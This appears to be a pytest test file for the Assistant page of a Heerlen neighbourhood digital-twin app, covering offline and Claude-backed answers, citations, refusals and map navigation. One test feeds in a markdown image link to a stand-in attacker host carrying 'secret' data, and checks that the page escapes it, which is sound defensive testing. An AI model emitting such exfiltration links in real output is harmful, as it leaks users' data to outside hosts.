"""The Assistant page headless (AppTest): questions in NL and EN, citations, refusals, Explain
requests from other pages, "show on map", and the Claude path against the fake Messages API
(including a 529 that falls back to the offline explainer with a visible notice)."""

from __future__ import annotations

from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from assistant import Answer, Grounding, NumberCheck
from assistant.testing import FakeAnthropic, Reply
from viewer.explain import ExplainRequest

APP = str(Path(__file__).resolve().parents[1] / "viewer" / "app.py")
CENTRUM = "BU09173300"


@pytest.fixture
def env(small_dir, monkeypatch):
    """The app on the small twin (Heerlen-Centrum), offline, in a fresh home folder."""
    from twin.settings import get_settings

    monkeypatch.setenv("SOCIALTWIN_TWIN", str(small_dir))
    get_settings.cache_clear()
    yield monkeypatch
    get_settings.cache_clear()


def _page(env, lang: str = "nl") -> AppTest:
    """The app in ``lang`` (the configured default: AppTest formats options outside the run,
    where only the default language is known), switched to the Assistant page."""
    from twin.settings import get_settings

    env.setenv("SOCIALTWIN_LANGUAGE", lang)
    get_settings.cache_clear()
    at = AppTest.from_file(APP, default_timeout=180)
    at.run()
    at.switch_page("views/assistant.py").run()
    _ok(at)
    return at


def _ok(at: AppTest) -> None:
    assert not at.exception, [e.value for e in at.exception]


def _ask(at: AppTest, question: str) -> AppTest:
    at.chat_input(key="asst_input").set_value(question).run()
    _ok(at)
    return at


def _markdown(at: AppTest) -> str:
    return "\n".join(m.value for m in at.markdown)


def _captions(at: AppTest) -> str:
    return "\n".join(c.value for c in at.caption)


@pytest.mark.parametrize(
    ("lang", "question", "expected"),
    [
        ("nl", "Hoe verhoudt Heerlen-Centrum zich tot de stad?", "vergeleken met Heerlen"),
        ("en", "How does Heerlen-Centrum compare with the city?", "compared with Heerlen"),
    ],
)
def test_an_offline_answer_with_citations_and_checked_numbers(env, lang, question, expected):
    at = _page(env, lang)
    assert at.title[0].value == {"nl": "Vraag het de assistent", "en": "Ask the assistant"}[lang]
    mode = {"nl": "offline uitlegger", "en": "offline explainer"}[lang]
    assert mode in _captions(at), "the page says it answers offline"
    _ask(at, question)
    text = _markdown(at)
    assert expected in text
    sources = next(m.value for m in at.markdown if m.value.startswith(("**Bronnen", "**Sources")))
    assert "CBS, Kerncijfers wijken en buurten" in sources and "CC BY 4\\.0" in sources
    assert ":violet-badge[" in sources, "synthetic sources are flagged"
    captions = _captions(at)
    assert {"nl": "getallen in dit antwoord komen uit", "en": "numbers in this answer come"}[
        lang
    ] in captions
    assert {"nl": "geen tokens, niets verstuurd", "en": "no tokens, nothing sent"}[lang] in captions
    label = {"nl": "Heerlen-Centrum op de kaart", "en": "Heerlen-Centrum on the map"}[lang]
    assert label in [b.label for b in at.button]
    history = at.session_state["assistant.history"]
    assert len(history) == 1 and history[0].answer.backend == "offline"


def test_a_question_about_a_person_is_refused_with_its_reason(env):
    at = _page(env, "nl")
    _ask(at, "Wie woont er op de Akerstraat 12?")
    assert at.error and at.error[0].value.startswith("Geweigerd: ")
    answer = at.session_state["assistant.history"][0].answer
    assert answer.refused and answer.refusal["reason"] in at.error[0].value
    assert "er is niets opgezocht of verstuurd" in _captions(at)
    assert not [b for b in at.button if b.key and b.key.startswith("asst_map_")]


def test_an_explain_request_is_answered_on_arrival_once(env):
    at = AppTest.from_file(APP, default_timeout=180)
    at.run()
    at.session_state["explain_request"] = ExplainRequest("area", area=CENTRUM)
    at.switch_page("views/assistant.py").run()
    _ok(at)
    history = at.session_state["assistant.history"]
    assert len(history) == 1 and history[0].area == CENTRUM
    assert history[0].answer.intent == "compare" and history[0].answer.grounding.ok
    assert "Heerlen-Centrum" in _captions(at), "the question shows what it is about"
    at.run()  # a rerun does not ask it again
    assert len(at.session_state["assistant.history"]) == 1
    assert "explain_request" not in at.session_state


def test_explain_buttons_on_the_dashboard_and_the_map_panel(env, small):
    at = AppTest.from_file(APP, default_timeout=180)
    at.run()
    at.switch_page("views/dashboard.py").run()
    at.selectbox(key="dash.area").set_value(CENTRUM).run()
    at.button(key="explain.dash").click().run()
    _ok(at)
    history = at.session_state["assistant.history"]
    assert history[-1].area == CENTRUM and history[-1].answer.intent == "compare"
    # the map's side panel: a picked building offers "Explain" for its buurt
    from viewer.map import pick_from_event

    b = small.to_wgs84("buildings")
    p = b.geometry.iloc[0].representative_point()
    pick = pick_from_event(small, {"layer": "buildings", "index": 0, "lon": p.x, "lat": p.y})
    at = AppTest.from_file(APP, default_timeout=180)
    at.session_state["_twinmap.home.selection"] = pick
    at.run()
    at.button(key=f"explain.panel.{pick.area}").click().run()
    _ok(at)
    assert at.session_state["assistant.history"][-1].area == pick.area


def test_show_on_map_flies_the_map_to_the_area(env):
    at = _page(env, "en")
    _ask(at, "How many inhabitants does Heerlen-Centrum have?")
    at.button(key=f"asst_map_0_{CENTRUM}").click().run()
    _ok(at)
    assert at.title[0].value == "Map of Heerlen", "the Map page opened"
    fly = at.session_state["_twinmap.home.fly"]
    assert fly["token"] == 1
    assert 5.95 < fly["view"]["longitude"] < 6.0 and 50.87 < fly["view"]["latitude"] < 50.9
    assert "show_on_map" not in at.session_state, "the request was taken once"


def test_here_means_the_area_chosen_on_the_page(env):
    at = _page(env, "nl")
    at.selectbox(key="assistant.area").set_value(CENTRUM).run()
    _ask(at, "Hoeveel inwoners zijn er hier?")
    turn = at.session_state["assistant.history"][0]
    assert turn.area == CENTRUM and turn.answer.intent == "indicator"
    assert CENTRUM in turn.answer.areas


def _claude_env(env, url: str) -> None:
    from twin.settings import get_settings

    env.setenv("SOCIALTWIN_EXTERNAL_AI", "true")
    env.setenv("ANTHROPIC_API_KEY", "sk-ant-page-test")
    env.setenv("SOCIALTWIN_CLAUDE_BASE_URL", url)
    env.setenv("SOCIALTWIN_CLAUDE_MODEL", "claude-test-model")
    env.setenv("SOCIALTWIN_CLAUDE_RETRIES", "0")
    env.setenv("SOCIALTWIN_CLAUDE_TIMEOUT", "5")
    get_settings.cache_clear()


def test_claude_answers_with_tokens_and_marked_numbers(env):
    with FakeAnthropic() as fake:
        fake.queue(
            Reply.tool_use(
                ("get_indicators", {"area": CENTRUM, "indicators": ["inhabitants"]}),
                input_tokens=2100,
                output_tokens=30,
                cache_creation_input_tokens=2000,
            ),
            Reply.text(
                "Heerlen-Centrum is een drukke buurt. Naar schatting daalt inbraak met 12,7 %.",
                input_tokens=2400,
                output_tokens=40,
                cache_read_input_tokens=2000,
            ),
        )
        _claude_env(env, fake.url)
        at = _page(env, "nl")
        assert "Werkwijze: **Claude** (claude-test-model)" in _captions(at)
        settings = _markdown(at)
        assert "uit (standaard)" not in settings and "ingesteld (niet getoond)" in settings
        assert "sk-ant-page-test" not in settings, "the key is never shown"
        _ask(at, "Hoe gaat het met Heerlen-Centrum?")
        assert len(fake.requests) == 2
    answer = at.session_state["assistant.history"][0].answer
    assert answer.backend == "claude"
    text = _markdown(at)
    assert ":red-background[**12,7 %** ⚠ niet gecontroleerd]" in text
    assert any("1 van 1 getallen konden niet worden gecontroleerd (12,7 %)" in e.value
               for e in at.error)  # fmt: skip
    assert any("niet elk getal" in w.value for w in at.warning), "Claude's unverified notice"
    line = _captions(at)
    assert "Beantwoord door Claude (claude-test-model)" in line
    assert "4500 tokens in, 70 uit, 2000 uit de cache, 2000 in de cache gezet" in line
    assert "2 verzoek(en)" in line


def test_claude_overloaded_falls_back_with_a_visible_notice(env):
    with FakeAnthropic([Reply.error(529, "overloaded_error")]) as fake:
        _claude_env(env, fake.url)
        at = _page(env, "en")
        _ask(at, "How does Heerlen-Centrum compare with the city?")
        assert len(fake.requests) == 1
    answer = at.session_state["assistant.history"][0].answer
    assert answer.backend == "offline" and answer.notice
    assert any("Claude is overloaded right now" in w.value for w in at.warning)
    assert "compared with Heerlen" in _markdown(at), "the offline answer follows"
    assert "Answered by the offline explainer after Claude failed" in _captions(at)


def test_offline_only_keeps_a_question_local_when_claude_is_allowed(env):
    with FakeAnthropic() as fake:
        _claude_env(env, fake.url)
        at = _page(env, "en")
        at.toggle(key="assistant.offline").set_value(True).run()
        _ask(at, "How many inhabitants does Heerlen-Centrum have?")
        assert fake.requests == []
    assert at.session_state["assistant.history"][0].answer.backend == "offline"


def test_german_ui_gets_an_english_answer(env):
    at = _page(env, "de")
    assert "noch nicht auf Deutsch" in _captions(at)
    at.button(key="asst_example_compare").click().run()
    _ok(at)
    assert at.session_state["assistant.history"][0].answer.lang == "en"


# -- pure helpers -------------------------------------------------------------------------------
def _answer(text: str, checks: tuple[NumberCheck, ...] = ()) -> Answer:
    return Answer(question="q", text=text, marked_text=text, lang="nl", backend="claude",
                  grounding=Grounding(checks))  # fmt: skip


def test_display_text_marks_each_unverified_number_in_place():
    from viewer.views.assistant import display_text

    text = "Inbraak: 4,6 per 1000, daling 12,7 % en 3 buurten."
    checks = (
        NumberCheck("4,6 per 1000", 9, 21, 4.6, "per1000", "exact", 4.6),
        NumberCheck("12,7 %", 30, 36, 12.7, "pct", "unmatched"),
        NumberCheck("3", 40, 41, 3.0, "", "unit_mismatch"),
    )
    shown = display_text(_answer(text, checks), lang="nl")
    assert shown == (
        "Inbraak: 4,6 per 1000, daling :red-background[**12,7 %** ⚠ niet gecontroleerd] en "
        ":red-background[**3** ⚠ eenheid klopt niet] buurten."
    )


def test_display_text_never_loads_an_image():
    from viewer.views.assistant import display_text

    shown = display_text(_answer("Zie ![x](http://evil.example/?q=secret) hier."))
    assert "![" not in shown and "!\\[x]" in shown


def test_explain_requests_become_questions(small):
    from viewer.views.assistant import turn_from_request

    street = small.streets[small.streets["name"].notna()].iloc[0]
    turn = turn_from_request(small, ExplainRequest("street", street_id=street["id"]), "en")
    assert turn.question == f"What do the CPTED assessments say about {street['name']}?"
    assert turn.area == street["buurt"]
    building = small.buildings.iloc[0]
    turn = turn_from_request(small, ExplainRequest("building", building_id=building["id"]), "nl")
    assert turn.area == building["buurt"] and turn.question.startswith("Hoe verhoudt deze buurt")
    turn = turn_from_request(small, ExplainRequest("scenario", scenario_id="3"), "de")
    assert turn.scenario == "3" and turn.lang == "en"
    assert turn.question.startswith("Explain this scenario result")


def test_an_assessment_request_asks_about_its_street(small):
    from twin.assessments import Author, make_assessment, open_store, target_from_street
    from viewer.views.assistant import turn_from_request

    street = small.streets[small.streets["name"].notna()].iloc[0]
    with open_store() as store:
        saved = store.create(
            make_assessment(target_from_street(small, street["id"]), {"li_even_lighting": 2}),
            Author("Anna de Vries"),
        )
    turn = turn_from_request(
        small, ExplainRequest("assessment", assessment_id=saved.assessment_id), "nl"
    )
    assert turn.question == f"Wat zeggen de CPTED-beoordelingen over {street['name']}?"
    assert turn.area == CENTRUM
    unknown = turn_from_request(small, ExplainRequest("assessment", assessment_id="0" * 32), "en")
    assert unknown.question.startswith("What do the CPTED assessments say about this place")
    assert unknown.area is None
